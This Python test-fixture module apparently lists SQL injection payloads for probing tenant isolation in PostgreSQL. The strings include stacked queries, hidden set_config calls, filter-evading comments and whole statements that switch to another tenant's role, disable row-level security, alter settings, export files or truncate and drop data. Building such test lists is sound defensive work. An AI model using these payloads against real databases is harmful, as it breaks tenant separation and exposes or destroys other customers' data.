"""Injected SQL, for sessions that refuse statements by their first word.

L1 injects into one statement of the application, L2 writes whole statements, and both
only through SQLAlchemy. ``{set}`` makes another tenant of the session by a statement,
``{call}`` by a function, ``{reset}`` takes it off its tenant.
"""

from __future__ import annotations

#: What makes globex of acme's session.
BECOME = {
    "role": {
        "set": 'SET ROLE "tenant_globex"',
        "local": 'SET LOCAL ROLE "tenant_globex"',
        "call": "set_config('role', 'tenant_globex', true)",
        "keep": "set_config('role', 'tenant_globex', false)",
        "name": "role",
        "value": "tenant_globex",
        "reset": "RESET ROLE",
    },
    "shared": {
        "set": "SET tenancy.tenant = 'globex'",
        "local": "SET LOCAL tenancy.tenant = 'globex'",
        "call": "set_config('tenancy.tenant', 'globex', true)",
        "keep": "set_config('tenancy.tenant', 'globex', false)",
        "name": "tenancy.tenant",
        "value": "globex",
        "reset": "RESET tenancy.tenant",
    },
}

# Behind a SELECT of the application: of L1 and L2.
STACKED = [
    f"{first}; {then}"
    for first in ("SELECT 1", "SELECT 1 /* ; */", "TABLE notes", "VALUES (1)")
    for then in (
        "{set}",
        "{set}; TABLE notes",
        "{local}; TABLE notes",
        "{reset}",
        "SELECT {call}; TABLE notes",
        "COMMIT; {set}",
        "DO $$ BEGIN PERFORM {call}; END $$; TABLE notes",
        "DISCARD ALL",
    )
] + [
    "SELECT 1;;;{set};TABLE notes",
    "SELECT $$;$$; {set}; TABLE notes",
    "SELECT E'\\'; {set}; --'; {set}; TABLE notes",
    "SELECT 1 --\n; {set} --\n; TABLE notes",
    "INSERT INTO notes (tenant, body) VALUES ('acme', 'x'); {set}; TABLE notes",
    "UPDATE notes SET body = body; {set}; TABLE notes",
    "DELETE FROM notes WHERE false; {set}; TABLE notes",
    "WITH n AS (TABLE notes) TABLE n; {set}; TABLE notes",
    "SELECT 1; ROLLBACK; BEGIN; {set}; TABLE notes",
    "SELECT 1; SAVEPOINT a; {set}; RELEASE a; TABLE notes",
    "SELECT 1; PREPARE p AS TABLE notes; {set}; EXECUTE p",
    "SELECT 1; DECLARE c CURSOR WITH HOLD FOR TABLE notes; {set}; FETCH ALL FROM c",
    "SELECT 1; COPY (SELECT {keep}) TO STDOUT",
    "SELECT 1; EXPLAIN ANALYZE SELECT {keep}",
    "SELECT 1; CREATE FUNCTION pg_temp.f() RETURNS text LANGUAGE sql AS"
    " $$ SELECT {keep} $$; SELECT pg_temp.f(); TABLE notes",
]

# Within one statement: of L1 and L2.
WITHIN = [
    "SELECT body FROM (SELECT {call} OFFSET 0) x, notes",
    "SELECT body, {call} FROM notes UNION ALL SELECT body, '' FROM notes",
    "SELECT * FROM {call} x, LATERAL (SELECT * FROM notes) n",
    "SELECT {keep}",
    "SELECT pg_catalog.{keep}",
    'SELECT "set_config"(' + "'{name}', '{value}', false)",
    'SELECT U&"set\\005fconfig"(' + "'{name}', '{value}', false)",
    "SELECT set_config(setting_name => '{name}', new_value => '{value}',"
    " is_local => false)",
    "SELECT set_config(VARIADIC setting_name => '{name}', new_value => '{value}',"
    " is_local => false)",
    "VALUES ({keep})",
    "TABLE notes ORDER BY {keep}",
    "SELECT 1 WHERE {keep} IS NOT NULL",
    "SELECT 1 LIMIT length({keep})",
    "SELECT max({keep}) OVER () FROM notes",
    "SELECT CASE WHEN {keep} = '' THEN 1 ELSE 2 END",
    "SELECT COALESCE(NULL, {keep})",
    "SELECT ARRAY(SELECT {keep})",
    "SELECT * FROM ROWS FROM ({keep}, now()) x",
    "SELECT 1 FROM notes GROUP BY {keep}",
    "SELECT count(*) FILTER (WHERE {keep} > '') FROM notes",
    "SELECT 1 FROM notes HAVING {keep} > ''",
    "SELECT 1 FROM notes JOIN notes m ON {keep} > ''",
    "SELECT body FROM notes TABLESAMPLE BERNOULLI (100) WHERE {keep} > ''",
    "WITH x AS MATERIALIZED (SELECT {call}) SELECT body FROM x, notes",
    "WITH RECURSIVE x(a) AS (SELECT {call} UNION SELECT a FROM x) TABLE x",
    "WITH x AS (UPDATE notes SET body = {keep} RETURNING *) TABLE x",
    "WITH x AS (INSERT INTO notes (tenant, body) VALUES ('acme', {keep})"
    " RETURNING *) TABLE x",
    "WITH x AS (DELETE FROM notes WHERE {keep} = '' RETURNING *) TABLE x",
    "INSERT INTO notes (tenant, body) VALUES ('acme', {keep})",
    "INSERT INTO notes (tenant, body) SELECT 'acme', {keep}",
    "INSERT INTO notes (tenant, body) VALUES ('acme', '') ON CONFLICT (id)"
    " DO UPDATE SET body = {keep}",
    "INSERT INTO notes (tenant, body) VALUES ('acme', 'x') RETURNING {keep}",
    "INSERT INTO notes (tenant, body) VALUES ('globex', {call})",
    "UPDATE notes SET body = {keep}",
    "UPDATE notes SET body = body WHERE {keep} > ''",
    "UPDATE notes SET body = body RETURNING {keep}",
    "DELETE FROM notes WHERE {keep} = ''",
    "MERGE INTO notes USING (SELECT {keep} x) s ON false WHEN NOT MATCHED THEN"
    " INSERT (tenant, body) VALUES ('acme', x)",
    "SELECT * FROM query_to_xml('SELECT {quoted_keep}', true, true, '')",
    "SELECT * FROM query_to_xml('{quoted_set}', true, true, '')",
    "SELECT * FROM query_to_xmlschema('SELECT {quoted_keep}', true, true, '')",
    "SELECT * FROM query_to_xml_and_xmlschema('SELECT {quoted_keep}', true, true, '')",
    "SELECT * FROM ts_stat('SELECT to_tsvector({quoted_keep})')",
    "SELECT * FROM ts_stat('{quoted_set}')",
    "SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, {quoted_keep}::tsquery')",
    "SELECT ts_rewrite('a'::tsquery, '{quoted_set}')",
    "UPDATE pg_settings SET setting = '{value}' WHERE name = '{name}'",
    "UPDATE pg_catalog.pg_settings SET setting = 'pg_temp' WHERE name = 'search_path'"
    " RETURNING setting",
    "WITH x AS (UPDATE pg_settings SET setting = 'off' WHERE name = 'row_security'"
    " RETURNING *) SELECT {keep} FROM x",
    "SELECT format_type({keep}::regtype, NULL)",
    "SELECT dblink('', '{quoted_set}')",
    "SELECT xpath_table('id', 'body', 'notes', '/', 'true; {quoted_set}')",
    "SELECT lo_export(1, '/tmp/x'), {keep}",
    "SELECT jsonb_path_query(to_jsonb({keep}), '$')",
    "SELECT body INTO TEMP loot FROM notes WHERE {keep} > ''",
    "SELECT * FROM notes FOR UPDATE OF notes SKIP LOCKED",
    "SELECT * FROM notes WHERE tenant = 'globex' OR true",
    "SELECT pg_reload_conf(), {keep}",
]

# Whole statements: of L2.
WHOLE = [
    f"{before}{statement}"
    for before in ("", ";", " \t\n\r\f", "\v", "/* SELECT */", "/* /* */ SELECT */ ")
    for statement in ("{set}", "{local}", "{reset}")
] + [
    "-- SELECT\n{set}",
    "-- SELECT\r{set}",
    "--\r\n;;/**/{set}",
    ";/* a */;-- b\n;{set}",
    "({set})",
    "\ufeff{set}",
    "\xa0{set}",
    "\u2028{set}",
    "\u3000{set}",
    "\x1f{set}",
    "\x85{set}",
    "/* SELECT 1 /*/ */ */{set}",
    "/*/ SELECT */ {set}",
    "set session role tenant_globex",
    "SeT rOlE tenant_globex",
    "SET ROLE NONE",
    "SET SESSION AUTHORIZATION DEFAULT",
    "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
    "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
    "SET search_path = pg_temp",
    "RESET ALL",
    "DISCARD ALL",
    "DISCARD TEMP",
    "BEGIN",
    "START TRANSACTION",
    "COMMIT",
    "COMMIT AND CHAIN",
    "END",
    "ABORT",
    "ROLLBACK",
    "ROLLBACK AND CHAIN",
    "PREPARE TRANSACTION 'x'",
    "SAVEPOINT a",
    "ROLLBACK TO a",
    "RELEASE a",
    "DO $$ BEGIN PERFORM {keep}; END $$",
    "DO 'BEGIN {quoted_set}; END'",
    "DO LANGUAGE plpgsql $$ BEGIN EXECUTE $a${set}$a$; END $$",
    "CALL pg_temp.p()",
    "PREPARE p AS SELECT {keep}",
    "EXECUTE p",
    "DEALLOCATE ALL",
    "DECLARE c CURSOR WITH HOLD FOR SELECT {keep}",
    "FETCH ALL FROM c",
    "EXPLAIN ANALYZE SELECT {keep}",
    "EXPLAIN (ANALYZE) UPDATE notes SET body = {keep}",
    "COPY (SELECT {keep}) TO STDOUT",
    "COPY notes (body) TO STDOUT",
    "CREATE TEMP TABLE loot AS SELECT {keep}",
    "CREATE FUNCTION pg_temp.f() RETURNS text LANGUAGE sql AS $$ SELECT {keep} $$",
    "CREATE FUNCTION pg_temp.f() RETURNS void LANGUAGE plpgsql AS"
    " $$ BEGIN {set}; END $$",
    "CREATE VIEW pg_temp.v AS SELECT {keep}",
    "CREATE ROLE x",
    "ALTER ROLE CURRENT_USER SET {name} = '{value}'",
    "ALTER ROLE app SET role = tenant_globex",
    "ALTER SYSTEM SET row_security = off",
    "ALTER TABLE notes DISABLE ROW LEVEL SECURITY",
    "DROP OWNED BY tenants",
    "REASSIGN OWNED BY tenants TO CURRENT_USER",
    "GRANT tenant_globex TO tenant_acme",
    "LOCK TABLE notes",
    "LISTEN x",
    "NOTIFY x",
    "UNLISTEN *",
    "LOAD 'auto_explain'",
    "VACUUM notes",
    "ANALYZE notes",
    "CLUSTER notes",
    "REINDEX TABLE notes",
    "REFRESH MATERIALIZED VIEW v",
    "TRUNCATE notes",
    "COMMENT ON TABLE notes IS 'x'",
    "SECURITY LABEL ON TABLE notes IS 'x'",
    "IMPORT FOREIGN SCHEMA x FROM SERVER y INTO z",
    "CHECKPOINT",
    "SHOW role",
    "MOVE ALL FROM c",
    "CLOSE ALL",
    "/*",
    "--",
    ";",
    "",
    "'{set}'",
    '"{name}"',
    "$$ {set} $$",
    "\\{set}",
    "\x00{set}",
    "SELECT\x00; {set}",
    "WITHOUT {set}",
    "SELECTED; {set}",
    "SELECT$; {set}",
    "SELECTé; {set}",
]


def texts(isolation: str) -> list[str]:
    """All of it, against one isolation."""
    become = BECOME[isolation]
    given = {
        **become,
        "quoted_set": become["set"].replace("'", "''"),
        "quoted_keep": become["keep"].replace("'", "''"),
    }
    found = []
    for each in [*STACKED, *WITHIN, *WHOLE]:
        for name, value in given.items():
            each = each.replace(f"{{{name}}}", value)
        found.append(each)
    return found
